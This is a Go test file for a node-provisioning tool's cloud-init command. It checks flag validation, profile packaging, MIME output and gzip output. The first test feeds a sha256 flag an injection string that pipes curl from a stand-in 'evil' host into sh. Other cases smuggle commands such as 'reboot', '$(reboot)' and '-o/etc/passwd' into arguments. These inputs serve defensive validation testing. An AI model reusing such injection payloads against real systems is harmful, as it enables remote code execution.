package cli

import (
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	mimepkg "mime"
	"mime/multipart"
	"net/mail"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"github.com/nodeup/nodeup/ops"
)

// Every cloud-init flag is checked before it reaches user data; a sha256
// that is shell code never becomes a command.
func TestCloudInitFlagsValidated(t *testing.T) {
	_, profile := fakeMirror(t)
	good := strings.Repeat("ab", 32)
	inject := "'; curl -s http://evil/x | sh; echo '" + strings.Repeat("0", 64-37)
	if len(inject) != 64 {
		t.Fatalf("the injected sha256 has %d characters", len(inject))
	}
	cases := []struct {
		args []string
		want string
	}{
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", inject}, "--nodeup-sha256 must be exactly 64 lowercase hex digits"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", strings.ToUpper(good)}, "--nodeup-sha256 must be exactly 64 lowercase hex digits"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", good + "0"}, "got 65 characters"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup"}, "--nodeup-sha256 must be"},
		{[]string{"--nodeup-sha256", good}, "--nodeup-sha256 without --nodeup-url"},
		{[]string{"--nodeup-url", "ftp://dl.internal/nodeup", "--nodeup-sha256", good}, `--nodeup-url "ftp://dl.internal/nodeup": want an http:// or https:// URL`},
		{[]string{"--nodeup-url", "https://dl.internal/a b", "--nodeup-sha256", good}, "without spaces or control characters"},
		{[]string{"--nodeup-url", "https://dl.internal/a\n; reboot", "--nodeup-sha256", good}, "without spaces or control characters"},
		{[]string{"--nodeup-url", "-o/etc/passwd", "--nodeup-sha256", good}, "want an http:// or https:// URL"},
		{[]string{"--arch", "amd64;reboot"}, `--arch "amd64;reboot": use amd64 or arm64`},
		{[]string{"--phase", "bake;reboot"}, `--phase "bake;reboot": use bake, boot or all`},
	}
	for _, c := range cases {
		code, out, errs := run(t, append([]string{"cloud-init", profile}, c.args...)...)
		if code != 1 || !strings.Contains(errs, c.want) || out != "" {
			t.Errorf("%q: exit %d, want 1 and %q:\n%s%s", c.args, code, c.want, errs, out)
		}
	}

	code, out, errs := run(t, "cloud-init", profile, "--nodeup-url", "https://dl.internal/nodeup-{arch}", "--nodeup-sha256", good, "--arch", "arm64")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var cc ops.CloudConfig
	if err := yaml.Unmarshal([]byte(out), &cc); err != nil {
		t.Fatal(err)
	}
	want := "printf '%s  %s\\n' '" + good + "' '/usr/local/bin/nodeup.download' | sha256sum -c - && chmod 0755 '/usr/local/bin/nodeup.download' && " +
		"mv '/usr/local/bin/nodeup.download' '/usr/local/bin/nodeup'"
	if got := cc.RunCmd[1]; len(got) != 3 || got[0] != "sh" || got[2] != want {
		t.Errorf("check command %q\nwant %q", got, want)
	}
}

// cloudProfile is a profile directory with a required variable, a
// sensitive one, a list one, and a file read with file().
func cloudProfile(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"vars.hcl": `variable "containerd_version" {}
variable "token" { sensitive = true }
variable "modules" {
  type    = list(string)
  default = ["overlay"]
}
`,
		"node.hcl": `node { kernel_modules = var.modules }
containerd {
  version = var.containerd_version
  config  = file("conf/extra.toml")
}
runc { version = "1.4.3" }
kubelet { flags = ["--hostname-override=${var.token}"] }
`,
		"conf/extra.toml": "[plugins.'io.containerd.cri.v1.runtime']\n  enable_unprivileged_ports = true\n",
	} {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// The user data carries the whole profile: its files, what file() read and
// the values given (NODEUP_VAR_*, --var-file, --var) in a 0600 file, never
// on a command line; it replaces the profile directory and applies with
// --wait.
func TestCloudInitCarriesWholeProfile(t *testing.T) {
	dir := cloudProfile(t)
	token := "t0ken-'quoted' $(reboot) ${x} %{y}"
	vf := filepath.Join(t.TempDir(), "v.hcl")
	os.WriteFile(vf, []byte("modules = [\"overlay\", \"br_netfilter\"]\n"), 0o600)
	code, out, errs := runEnv(t, []string{"NODEUP_VAR_containerd_version=2.3.4"}, "cloud-init", dir, "--var-file", vf, "--var", "token="+token)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var cc ops.CloudConfig
	if err := yaml.Unmarshal([]byte(out), &cc); err != nil {
		t.Fatal(err)
	}
	files := map[string]ops.CloudFile{}
	for _, f := range cc.WriteFiles {
		files[f.Path] = f
		if f.Permissions != "0600" || f.Owner != "root:root" {
			t.Errorf("%s: permissions %s owner %s", f.Path, f.Permissions, f.Owner)
		}
	}
	var paths []string
	for p := range files {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	if got := strings.Join(paths, " "); got != "/etc/nodeup/profile.d/conf/extra.toml /etc/nodeup/profile.d/node.hcl /etc/nodeup/profile.d/nodeup.auto.vars.hcl /etc/nodeup/profile.d/vars.hcl" {
		t.Errorf("write_files: %s", got)
	}
	vars := files["/etc/nodeup/profile.d/nodeup.auto.vars.hcl"].Content
	for _, want := range []string{`containerd_version = "2.3.4"`, `modules            = ["overlay", "br_netfilter"]`, `token              = "t0ken-'quoted' $(reboot) $${x} %%{y}"`} {
		if !strings.Contains(vars, want) {
			t.Errorf("values file lacks %s:\n%s", want, vars)
		}
	}
	if got := fmt.Sprint(cc.BootCmd); got != "[[cloud-init-per instance nodeup-profile rm -rf /etc/nodeup/profile.d]]" {
		t.Errorf("bootcmd: %s", got)
	}
	if got := strings.Join(cc.RunCmd[len(cc.RunCmd)-1], " "); got != "nodeup apply /etc/nodeup/profile.d --wait --log-format text --no-color" {
		t.Errorf("apply: %s", got)
	}
	if strings.Contains(fmt.Sprint(cc.RunCmd), "t0ken") {
		t.Errorf("the sensitive value is on a command line: %q", cc.RunCmd)
	}

	// Written out as cloud-init would, the directory loads with nothing
	// given: the node needs no flags.
	node := t.TempDir()
	for _, f := range cc.WriteFiles {
		p := filepath.Join(node, f.Path)
		os.MkdirAll(filepath.Dir(p), 0o700)
		os.WriteFile(p, []byte(f.Content), 0o600)
	}
	if code, out, errs := runEnv(t, nil, "validate", filepath.Join(node, "etc/nodeup/profile.d")); code != 0 {
		t.Errorf("validate the user data's profile: exit %d\n%s%s", code, out, errs)
	}

	// A file the profile cannot carry is an error before any user data.
	os.WriteFile(filepath.Join(dir, "node.hcl"), []byte(strings.Replace(`containerd {
  version = var.containerd_version
  config  = file("ABS")
}
runc { version = "1.4.3" }
`, "ABS", filepath.Join(dir, "conf/extra.toml"), 1)), 0o644)
	code, out, errs = runEnv(t, []string{"NODEUP_VAR_containerd_version=2.3.4", "NODEUP_VAR_token=x"}, "cloud-init", dir)
	if code != 1 || out != "" || !strings.Contains(errs, `write file("conf/extra.toml") instead`) {
		t.Errorf("absolute file(): exit %d\n%s%s", code, out, errs)
	}
}

func TestCloudInitMimeAndGzip(t *testing.T) {
	dir := cloudProfile(t)
	env := []string{"NODEUP_VAR_containerd_version=2.3.4", "NODEUP_VAR_token=x"}
	code, plain, errs := runEnv(t, env, "cloud-init", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	script := filepath.Join(t.TempDir(), "hello.sh")
	os.WriteFile(script, []byte("#!/bin/sh\necho hello\n"), 0o644)
	code, mime, errs := runEnv(t, env, "cloud-init", dir, "--format", "mime", "--part", script)
	if code != 0 {
		t.Fatalf("mime: exit %d: %s", code, errs)
	}
	msg, err := mail.ReadMessage(strings.NewReader(mime))
	if err != nil {
		t.Fatal(err)
	}
	mt, params, err := mimepkg.ParseMediaType(msg.Header.Get("Content-Type"))
	if err != nil || mt != "multipart/mixed" || msg.Header.Get("MIME-Version") != "1.0" {
		t.Fatalf("Content-Type %q: %v", msg.Header.Get("Content-Type"), err)
	}
	mr := multipart.NewReader(msg.Body, params["boundary"])
	var types, bodies []string
	for {
		p, err := mr.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(p)
		body, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(string(raw), "\r\n", ""))
		if err != nil {
			t.Fatal(err)
		}
		types = append(types, p.Header.Get("Content-Type")+" "+p.Header.Get("Merge-Type"))
		bodies = append(bodies, string(body))
	}
	if len(types) != 2 || types[0] != `text/cloud-config; charset="utf-8" list(append)+dict(no_replace,recurse_list)+str()` || types[1] != `text/x-shellscript; charset="utf-8" ` {
		t.Errorf("parts: %q", types)
	}
	if len(bodies) == 2 && (bodies[0] != plain || bodies[1] != "#!/bin/sh\necho hello\n") {
		t.Errorf("part bodies differ from their sources:\n%s", bodies[0])
	}
	code, again, _ := runEnv(t, env, "cloud-init", dir, "--format", "mime", "--part", script)
	if code != 0 || again != mime {
		t.Errorf("the same input gives other mime output")
	}

	code, gz, errs := runEnv(t, env, "cloud-init", dir, "--gzip")
	if code != 0 {
		t.Fatalf("gzip: exit %d: %s", code, errs)
	}
	zr, err := gzip.NewReader(strings.NewReader(gz))
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := io.ReadAll(zr); string(b) != plain {
		t.Errorf("gunzipped user data differs")
	}

	bad := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(bad, []byte("just text\n"), 0o644)
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--format", "mime", "--part", bad}, "--part " + bad + `: its first line "just text" says nothing cloud-init knows`},
		{[]string{"--part", script}, "--part needs --format mime"},
		{[]string{"--format", "yaml"}, `--format "yaml": use cloud-config or mime`},
	} {
		code, out, errs := runEnv(t, env, append([]string{"cloud-init", dir}, c.args...)...)
		if code != 1 || out != "" || !strings.Contains(errs, c.want) {
			t.Errorf("%q: exit %d, want 1 and %q\n%s%s", c.args, code, c.want, out, errs)
		}
	}
}
